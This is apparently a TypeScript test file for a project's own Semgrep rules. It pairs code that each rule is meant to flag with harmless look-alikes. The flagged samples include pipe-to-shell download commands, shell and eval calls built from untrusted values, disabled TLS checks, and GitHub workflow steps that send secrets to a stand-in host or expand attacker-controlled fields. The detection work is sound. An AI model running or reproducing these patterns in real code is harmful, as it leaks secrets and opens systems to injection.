import assert from 'node:assert/strict'
import { test } from 'node:test'
import { runProcess } from '../../../infra/processes/processes.ts'
import { scanArguments } from '../../../infra/semgrep/program.ts'
import { leftOutBy, readScan } from '../../../infra/semgrep/report.ts'
import { ownRules, readRules } from '../../../infra/semgrep/rules.ts'
import { cachedSemgrep, cacheFolder, findOnPath } from '../../../infra/setup/cache.mjs'
import { temporaryFolder, writeFiles } from '../../support/temporary.ts'

const semgrep = findOnPath('semgrep', process.env) ?? cachedSemgrep(cacheFolder(process.env))
const marker = ['-----BEGIN RSA', 'PRIVATE KEY-----'].join(' ')
const workflow = (run: string, on = 'push'): string => `on: ${on}\njobs:\n  a:\n    steps:\n      - run: ${run}\n`

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: they are code to be scanned.
/** Of each rule, what it finds and what it does not, by the ending or place of the file. */
const samples: readonly [rule: string, file: string, found: readonly string[], not: readonly string[]][] = [
  [
    'js-code-from-a-value',
    'js',
    ['eval(input)', "new Function('a', body)", "import vm from 'node:vm'\nvm.runInNewContext(text, {})"],
    ["eval('1 + 1')", 'evaluate(input)', "new Function('return 1')"],
  ],
  [
    'js-shell-line-from-a-value',
    'ts',
    [
      "import { exec } from 'node:child_process'\nexec(`ls ${name as string}`)",
      "const { execSync } = require('child_process')\nexecSync('ls ' + name)",
    ],
    [
      "import { exec, execFile } from 'child_process'\nexec('ls -l')\nexecFile('ls', [name])",
      'const exec = 1;\n/a/.exec(`x${name}`)',
      "import { exec } from 'bun'\nexec(`ls ${name}`)",
    ],
  ],
  [
    'js-tls-not-verified',
    'js',
    ['get({ host, rejectUnauthorized: false })', "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'"],
    ['get({ host, rejectUnauthorized: true })', "const name = 'NODE_TLS_REJECT_UNAUTHORIZED'"],
  ],
  [
    'python-code-from-a-value',
    'py',
    ['eval(value)', 'exec(value)'],
    ['eval("1 + 1")', 'import ast\nast.literal_eval(value)', 'model.eval()'],
  ],
  [
    'python-shell-line-from-a-value',
    'py',
    [
      'import os\nos.system(f"ls {name}")',
      'import subprocess\nsubprocess.run("ls %s" % name, shell=True)',
      'import os\nos.system("ls {}".format(name))',
    ],
    ['import os\nos.system("ls -l")', 'import subprocess\nsubprocess.run(["ls", name])', 'import subprocess\nsubprocess.run(f"ls {name}")'],
  ],
  [
    'python-tls-not-verified',
    'py',
    ['import requests\nrequests.get(url, verify=False)', 'import ssl\ncontext = ssl._create_unverified_context()'],
    ['import requests\nrequests.get(url, verify="ca.pem")', 'import requests\nrequests.get(url)'],
  ],
  [
    'go-shell-line-from-a-value',
    'go',
    [
      'package a\n\nimport "os/exec"\n\nfunc f() {\n\texec.Command("sh", "-c", line).Run()\n}',
      'package a\n\nimport "os/exec"\n\nfunc f() {\n\texec.CommandContext(x, "/bin/bash", "-c", "ls "+n)\n}',
    ],
    ['package a\n\nimport "os/exec"\n\nfunc f() {\n\texec.Command("sh", "-c", "ls").Run()\n\texec.Command("ls", name).Run()\n}'],
  ],
  [
    'go-tls-not-verified',
    'go',
    ['package a\n\nimport "crypto/tls"\n\nvar c = &tls.Config{MinVersion: 1, InsecureSkipVerify: true}'],
    ['package a\n\nimport "crypto/tls"\n\nvar c = &tls.Config{InsecureSkipVerify: false}'],
  ],
  [
    'shell-runs-what-it-fetches',
    'sh',
    ['curl -fsSL https://get.example.com | sh', 'wget -qO- https://x | sudo -E bash -s -- -y', 'curl https://x | python3 -'],
    ['# curl https://x | sh', 'curl https://x | jq .name', 'curl -o tool https://x && sha256sum -c sums', 'echo curl; ls | sh -n'],
  ],
  [
    'shell-tls-not-verified',
    'sh',
    ['curl -k https://x', 'npm config set strict-ssl false', 'git -c http.sslVerify=false fetch'],
    ['curl -K config https://x', 'git config http.sslVerify true', '# curl -k https://x'],
  ],
  [
    'private-key-in-code',
    'js',
    [
      `const key = "${marker}\\nMIIEpAIBAAKCAQEA0123456789abcdefghijklmnopqrstuvwxyzABCDEF"`,
      `const key = \`${marker}\nMIIEpAIBAAKCAQEA0123456789abcdefghijklmnopqrstuvwxyzABCDEF\n\``,
    ],
    [`const isKey = /${marker}/`, `const begin = "${marker}"\nconst end = 1`],
  ],
  [
    'workflow-sends-a-secret',
    '.github/workflows/%.yml',
    [
      workflow("curl -d '${{ secrets.TOKEN }}' https://x"),
      workflow('echo ${{ secrets.TOKEN }} | base64'),
      workflow("echo '${{ toJSON(secrets) }}'"),
    ],
    [workflow('npm publish\n        env: { TOKEN: "${{ secrets.TOKEN }}" }'), workflow('curl https://x')],
  ],
  [
    'workflow-runs-words-of-strangers',
    '.github/workflows/%.yml',
    [workflow('echo ${{ github.event.issue.title }}'), workflow('git checkout ${{ github.head_ref }}')],
    [workflow('echo ${{ github.sha }}'), workflow('echo $TITLE\n        env: { TITLE: "${{ github.event.issue.title }}" }')],
  ],
  ['workflow-trusts-pull-requests', '.github/workflows/%.yml', [workflow('ls', 'pull_request_target')], [workflow('ls', 'pull_request')]],
]
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: see above.

test('each rule of our own finds what it is for, and nothing of what looks like it', {
  skip: semgrep ? false : 'semgrep is not installed',
}, async () => {
  await using folder = await temporaryFolder()
  const nameOf = (rule: string, file: string, n: string): string =>
    file.includes('%') ? file.replace('%', `${rule}-${n}`) : `${rule}-${n}.${file}`
  const files = samples.flatMap(([rule, file, found, not]) => [
    ...found.map((text, n) => [nameOf(rule, file, `bad-${n}`), `${text}\n`]),
    ...not.map((text, n) => [nameOf(rule, file, `good-${n}`), `${text}\n`]),
  ])
  await writeFiles(folder.path, { ...Object.fromEntries(files), '.semgrepignore': '' })
  const argv = scanArguments(semgrep ?? '', [ownRules], 'native')
  const run = await runProcess({ argv, cwd: folder.path, env: { PATH: process.env['PATH'] ?? '' }, timeoutMs: 60_000 })
  const findings = readScan(run, '/no/base')
  assert.ok(typeof findings !== 'string', String(findings))
  assert.deepEqual(leftOutBy(run.stdout, ownRules), [])
  const seen = [...new Set(findings.map(({ rule, file }) => `${rule.replace('cortex-', '')} in ${file}`))].sort()
  const expected = samples.flatMap(([rule, file, found]) => found.map((_, n) => `${rule} in ${nameOf(rule, file, `bad-${n}`)}`)).sort()
  assert.deepEqual(seen, expected)
})

test('no rule of our own is without samples', async () => {
  const ids = (await readRules(ownRules)).flatMap(({ text }) => [...text.matchAll(/^ {2}- id: (\S+)$/gm)].map(([, id]) => id))
  assert.deepEqual(ids.sort(), samples.map(([rule]) => `cortex-${rule}`).sort())
})
